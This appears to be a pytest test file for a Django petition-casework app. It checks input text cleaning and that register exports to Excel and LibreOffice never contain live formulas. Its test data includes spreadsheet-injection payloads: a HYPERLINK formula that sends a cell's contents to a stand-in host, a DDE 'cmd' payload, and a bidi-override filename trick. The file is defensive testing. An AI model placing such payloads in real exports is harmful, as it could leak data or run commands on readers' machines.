"""Text cleaned where it enters (forms and services), and spreadsheets that never carry a
formula nor a character that breaks them, whatever the database holds."""
import csv
import datetime
import io
import os
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from casework.exports import RegisterRow, write_register
from casework.models import CaseEvent, InspectionCase, Petition, PetitionSender
from casework.services.inspections import case_open
from casework.services.petitions import (
    SenderData,
    petition_classify,
    petition_receive,
    petition_transfer,
)
from casework.services.programme import programme_save
from casework.text import clean_line, clean_text, csv_cell, formula_like
from tests.casework.test_pages import intake_post
from tests.factories import MemberFactory, receive_petition, user_with_role

DECOMPOSED = "Nguye\u0302\u0303n"  # "Nguyễn" typed as e + circumflex + tilde
EVERY_CONTROL = "".join(chr(c) for c in [*range(0x00, 0x20), *range(0x7f, 0xa0)])
INVISIBLE = "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068" \
            "\u2069\u2060\ufeff\xad\u061c"
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&F7,\"Bấm vào đây\")", "+1+1", "-2+3",
            "@SUM(1,2)", "=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,2)",
            "\t=1+1", "\r=1+1", "-cmd|' /C calc'!A0", "- Ông A; - Bà B"]


# -- the rule ------------------------------------------------------------------------------

@pytest.mark.parametrize("raw, multiline, cleaned", [
    (DECOMPOSED, False, "Nguyễn"),
    ("Nguye\u200b\u0302\u0303n", False, "Nguyễn"),
    ("Dòng một\x0bdòng hai\x0cdòng ba", True, "Dòng một\ndòng hai\ndòng ba"),
    ("a\r\nb\rc\u2028d\u2029e\x85f", True, "a\nb\nc\nd\ne\nf"),
    ("Cột\x07một\x1b[31m\x00\x7f\x9b", True, "Cộtmột[31m"),
    ("  \tthụt lề giữ\tnguyên \n", True, "thụt lề giữ\tnguyên"),
    ("Nguyễn\u202eănV\u202c \u200bAn", False, "NguyễnănV An"),
    ("Vũ  Văn\n\t Hải\r\n", False, "Vũ  Văn Hải"),
    ("Thôn\x0bLại", False, "Thôn Lại"),
    (EVERY_CONTROL + INVISIBLE, True, ""),
    (None, True, ""),
    ("=1+1", False, "=1+1"),  # entering text is not an export: kept as typed
])
def test_clean_text(raw, multiline, cleaned):
    assert clean_text(raw, multiline=multiline) == cleaned
    assert clean_text(cleaned, multiline=multiline) == cleaned  # idempotent


def test_a_lone_surrogate_cannot_reach_the_database():
    assert clean_line("An\ud800") == "An"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_prefixes_are_recognised_and_csv_cells_are_quoted(text):
    cleaned = clean_text(text)
    assert formula_like(cleaned)
    assert csv_cell(text) == "'" + cleaned


@pytest.mark.parametrize("text", ["Ông A", "1+1", "Kiến nghị = đề nghị", "'=1+1", ""])
def test_ordinary_text_is_left_alone(text):
    assert not formula_like(text) or text.startswith("'")
    assert csv_cell(text) == text


# -- where text enters -----------------------------------------------------------------------

@pytest.mark.django_db
def test_intake_page_stores_pasted_word_text_clean(client, tree, clerk):
    client.force_login(clerk)
    response = client.post(reverse("casework:petition-create"), intake_post(
        organisation=tree.office.pk,
        summary="Đoạn một\x0bđoạn hai\x1b[0m\u202e\x00",  # NUL: PostgreSQL refuses it
        subject_name="Đinh\x0bVăn\u200bLấn",
        **{"senders-0-full_name": DECOMPOSED + "\u202e Văn\nHải",
           "senders-0-address": "Thôn\x07 Lại\r\nxã Kè Sắt"}))
    assert response.status_code == 302, response.content.decode()[:3000]
    petition = Petition.objects.get()
    sender = petition.senders.get()
    assert petition.summary == "Đoạn một\nđoạn hai[0m"
    assert petition.subject_name == "Đinh VănLấn"
    assert sender.full_name == "Nguyễn Văn Hải"
    assert sender.address == "Thôn Lại xã Kè Sắt"


def every_form_class():
    """Every form of the project's apps, found from the code so a new one cannot escape."""
    import importlib
    import pkgutil

    from django import forms

    import casework
    import notifications
    import workflows

    for package in (casework, workflows, notifications):
        for module in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
            if "migrations" not in module.name and "management" not in module.name:
                importlib.import_module(module.name)
    seen, todo = set(), [forms.Form]
    while todo:
        for sub in todo.pop().__subclasses__():
            if sub not in seen:
                seen.add(sub)
                todo.append(sub)
    # Forms made with type() are named after Django's metaclass module: look at the MRO.
    ours = ("casework", "workflows", "notifications")
    return sorted((c for c in seen if any(k.__module__.split(".")[0] in ours for k in c.__mro__)),
                  key=lambda c: c.__qualname__)


def test_every_form_with_a_text_field_cleans_it():
    from django import forms

    from casework.forms import CleanTextForm

    with_text = [c for c in every_form_class()
                 if any(isinstance(f, forms.CharField) for f in c.base_fields.values())]
    assert len(with_text) >= 10
    # A building block (casework.handoff_forms.DestinationForm) is only used inside a
    # CleanTextForm (the transfer and guide forms), which cleans its fields.
    with_text = [c for c in with_text if not getattr(c, "building_block", False)
                 or c.__dict__.get("building_block") is None]
    assert [c.__qualname__ for c in with_text if not issubclass(c, CleanTextForm)] == []


def test_a_form_cleans_on_its_own():
    from casework.forms import TRANSITION_FORMS, SenderForm

    sender = SenderForm({"full_name": DECOMPOSED + "\u202e\nVăn\x0bHải", "address": "a\x00b",
                         "phone": "09\u200b87", "id_number": ""})
    assert sender.is_valid(), sender.errors
    assert sender.cleaned_data == {"full_name": "Nguyễn Văn Hải", "address": "ab",
                                   "phone": "0987", "id_number": ""}
    transfer = TRANSITION_FORMS["transfer"]({
        "expected_status": "classified", "recipient": "UBND\r\nxã", "doc_number": "1\x1b",
        "doc_date": "", "reason": "Dòng\x0bhai\x07"})
    assert transfer.is_valid(), transfer.errors
    assert (transfer.cleaned_data["recipient"], transfer.cleaned_data["doc_number"],
            transfer.cleaned_data["reason"]) == ("UBND xã", "1", "Dòng\nhai")


def test_every_service_taking_text_cleans_it():
    """Found from the code: a public service (keyword-only, `<entity>_<verb>`) with a `str`
    argument in the modules that write typed text."""
    import importlib
    import inspect

    modules = ["casework.services.petitions", "casework.services.inspections",
               "casework.services.programme", "workflows.services.clocks",
               "workflows.services.calendar"]
    taking_text = []
    for name in modules:
        for fname, func in inspect.getmembers(importlib.import_module(name),
                                              inspect.isfunction):
            if fname.startswith("_") or func.__module__ != name:
                continue
            params = inspect.signature(func).parameters.values()
            if any(p.kind is p.KEYWORD_ONLY and p.annotation in (str, "str") for p in params):
                taking_text.append(func)
    assert len(taking_text) >= 15
    assert [f.__qualname__ for f in taking_text if not hasattr(f, "cleans_text")] == []


@pytest.mark.django_db
def test_transition_page_cleans_the_recipient(client, tree, clerk):
    petition = receive_petition(actor=clerk, organisation=tree.office)
    petition_classify(actor=clerk, petition_id=petition.pk, kind="recommendation",
                      competence="other")
    client.force_login(clerk)
    response = client.post(
        reverse("casework:petition-transition", args=[petition.pk, "transfer"]),
        {"expected_status": "classified", "recipient": "UBND\x0bxã\x1b Kè Sắt",
         "doc_number": "15-CV/\u200bĐU", "doc_date": "05/09/2025",
         "reason": "Ghi\x0cchú"})
    assert response.status_code == 302, response.content.decode()[:3000]
    petition.refresh_from_db()
    assert petition.handled_by == "UBND xã Kè Sắt"
    event = CaseEvent.objects.get(petition=petition, event_type="transferred")
    assert (event.doc_number, event.reason) == ("15-CV/ĐU", "Ghi\nchú")
    assert event.details["recipient"] == "UBND xã Kè Sắt"


@pytest.mark.django_db
def test_services_clean_text_whatever_the_entry_point(tree, clerk):
    """The API, commands and the demo loader call the services, not the forms."""
    petition = petition_receive(
        actor=clerk, organisation=tree.office, received_on=datetime.date(2025, 9, 3),
        channel="forwarded", forwarded_by="UBND\nxã\x1b", kind="recommendation",
        senders=[SenderData(full_name=DECOMPOSED + "\u2066 An\u2069", address="Thôn\x0bLại",
                            phone="0987\u200b000111", id_number="0341\t88")],
        summary="\x07Tóm tắt\x0bdòng hai", subject_name="Đinh\r\nVăn Lấn")
    assert (petition.forwarded_by, petition.summary, petition.subject_name) == (
        "UBND xã", "Tóm tắt\ndòng hai", "Đinh Văn Lấn")
    sender = PetitionSender.objects.get(petition=petition)
    assert (sender.full_name, sender.address, sender.phone, sender.id_number) == (
        "Nguyễn An", "Thôn Lại", "0987000111", "0341 88")
    petition_classify(actor=clerk, petition_id=petition.pk, kind="recommendation",
                      competence="other", reason="Nhận\x0bxét\x00")
    petition_transfer(actor=clerk, petition_id=petition.pk, recipient="UBND\x0cxã",
                      doc_number="15\x1b-CV", doc_date=datetime.date(2025, 9, 5))
    petition.refresh_from_db()
    assert (petition.handled_by, petition.decision_number) == ("UBND xã", "15-CV")
    assert list(CaseEvent.objects.filter(petition=petition).order_by("pk")
                .values_list("reason", "doc_number"))[1:] == [("Nhận\nxét", ""),
                                                                ("", "15-CV")]


@pytest.mark.django_db
def test_a_scans_name_cannot_disguise_its_extension(tree, clerk):
    """A scan's name is kept only as a label, but the label must read as it is stored (a
    direction override would show what follows it reversed), and NUL after the extension
    no longer makes a good PDF look like the wrong type."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    scan = SimpleUploadedFile("Đơn\u202e tố cáo\x0b.pdf\x00", b"%PDF-1.4\n%%EOF\n",
                              content_type="application/pdf")
    petition = receive_petition(actor=clerk, organisation=tree.office, attachments=[scan])
    assert petition.attachments.get().original_name == "Đơn tố cáo .pdf"


@pytest.mark.django_db
def test_inspection_and_programme_services_clean_text(tree):
    member = user_with_role("ubkt", tree.commune, username="uv-ubkt")
    case = case_open(
        actor=member, organisation=tree.ubkt, body="ubkt", kind="violation_signs",
        title="Kiểm tra\x0b" + DECOMPOSED, decision_number="01\u202e-QĐ/UBKT",
        decision_date=datetime.date(2026, 3, 2), starts_on=datetime.date(2026, 3, 5),
        ends_on=datetime.date(2026, 5, 5), team_leader=member,
        subject_member=MemberFactory(organisation=tree.branch_a),
        content="Nội dung\x0bdòng hai\x1b")
    case = InspectionCase.objects.get(pk=case.pk)
    assert (case.title, case.decision_number, case.content) == (
        "Kiểm tra Nguyễn", "01-QĐ/UBKT", "Nội dung\ndòng hai")
    planner = user_with_role("ubkt", tree.ubkt, username="uv-ubkt-2")
    programme = programme_save(actor=planner, organisation=tree.ubkt, year=2026, body="ubkt",
                               document="01-CTr/UBKT\x0b ngày 05/01/2026\u200b")
    assert programme.document == "01-CTr/UBKT ngày 05/01/2026"


@pytest.mark.django_db
def test_a_summary_of_invisible_characters_only_is_refused_naming_the_field(client, tree,
                                                                            clerk):
    client.force_login(clerk)
    response = client.post(reverse("casework:petition-create"), intake_post(
        organisation=tree.office.pk, summary="\x0b\x07\u200b\u202e"))
    assert response.status_code == 200
    assert "Chưa nhập tóm tắt nội dung đơn" in " ".join(response.context["form"].errors["summary"])
    assert Petition.objects.count() == 0


@pytest.mark.django_db
def test_a_search_typed_decomposed_finds_the_stored_text(client, tree, clerk):
    """Some Vietnamese keyboards (Unikey's "Unicode tổ hợp") type "ễ" as e + two marks."""
    receive_petition(actor=clerk, organisation=tree.office, summary="Đơn của ông Nguyễn An.")
    client.force_login(clerk)
    response = client.get(reverse("casework:petition-list"), {"tim": DECOMPOSED + "\u200b An"})
    assert response.status_code == 200
    assert response.context["total"] == 1


# -- where text leaves: the register export --------------------------------------------------

def exported(client, user):
    client.force_login(user)
    response = client.get(reverse("casework:petition-export"), {"danh-tinh": "1"})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def no_formula_anywhere(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # Excel's own "typed with a leading apostrophe": stays text if a reader edits the cell.
    assert not [c.coordinate for c in cells
                if isinstance(c.value, str) and formula_like(c.value) and not c.quotePrefix]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    return [c.value for c in cells if isinstance(c.value, str)]


@pytest.mark.django_db
def test_a_legacy_row_with_control_characters_does_not_break_the_export(client, tree,
                                                                          admin_user):
    """A row stored before the cleaning rule (or by a path around it) is cleaned on export.
    (No NUL here: PostgreSQL refuses to store one at all.)"""
    petition = receive_petition(actor=admin_user, organisation=tree.office)
    Petition.objects.filter(pk=petition.pk).update(
        summary="Tóm tắt\x0bdán từ Word\x1b\x07\x1f", subject_name="Đinh\x0cVăn Lấn")
    PetitionSender.objects.filter(petition=petition).update(full_name="Nguyễn\x0bVăn An\x08")
    values = no_formula_anywhere(exported(client, admin_user))
    assert "Tóm tắt\ndán từ Word" in values
    assert "Đinh\nVăn Lấn" in values
    assert "Nguyễn\nVăn An" in values


@pytest.mark.django_db
def test_formulas_typed_anywhere_are_exported_as_text(client, tree, admin_user):
    """Summary, sender, subject, transfer recipient: each one a formula as typed; the
    export shows each as the text it is, none as a formula (not even in the identity
    columns of an export with identities)."""
    for i, formula in enumerate(FORMULAS):
        petition = receive_petition(
            actor=admin_user, organisation=tree.office, sender=formula, summary=formula,
            subject_name=formula, received_on=datetime.date(2025, 9, 1 + i))
        petition_classify(actor=admin_user, petition_id=petition.pk, kind="recommendation",
                          competence="other")
        petition_transfer(actor=admin_user, petition_id=petition.pk, recipient=formula,
                          doc_number=formula, doc_date=datetime.date(2025, 9, 20))
    values = no_formula_anywhere(exported(client, admin_user))
    for formula in FORMULAS:
        assert values.count(clean_text(formula)) >= 4  # summary, sender, subject, recipient


def every_hostile_row():
    """Rows as the export receives them: every control character, every formula prefix,
    in every text column (the rows are not cleaned before: the export must cope)."""
    texts = [*FORMULAS, EVERY_CONTROL + "Ông A" + INVISIBLE,
             *(f"Ký tự {c:#04x}:{chr(c)}." for c in [*range(0x00, 0x20), *range(0x7f, 0xa0)])]
    return [RegisterRow(receipt_number=t, received_on=datetime.date(2025, 9, 3), organisation=t,
                        channel=t, kind=t, senders=t, addresses=t, summary=t, subject=t,
                        status=t, handled_by=t, document=t, closed_on=None)
            for t in texts], texts


def test_an_export_with_every_control_character_and_formula_prefix_opens_in_openpyxl():
    rows, texts = every_hostile_row()
    out = io.BytesIO()
    assert write_register(out, rows, title_lines=FORMULAS) == len(rows)
    values = no_formula_anywhere(out.getvalue())
    for text in texts:
        assert values.count(clean_text(text)) >= 11


@pytest.mark.skipif(not shutil.which("soffice"),
                    reason="cần LibreOffice (gói libreoffice-calc-nogui)")
def test_an_export_with_every_control_character_and_formula_prefix_opens_in_libreoffice(
        tmp_path):
    rows, texts = every_hostile_row()
    source = tmp_path / "so-don-thu.xlsx"
    with source.open("wb") as out:
        write_register(out, rows, title_lines=FORMULAS)
    # Its own profile, so that a LibreOffice already running elsewhere does not take the job.
    result = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir",
         str(tmp_path), str(source)],
        capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)})
    converted = tmp_path / "so-don-thu.csv"
    assert result.returncode == 0 and converted.exists(), result.stdout + result.stderr
    with converted.open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    for text in texts:  # literally, not as a computed result
        assert cells.count(clean_text(text)) >= 11, text
    assert not [c for c in cells if c.startswith(("#NAME", "#VALUE", "#REF", "Err:"))]
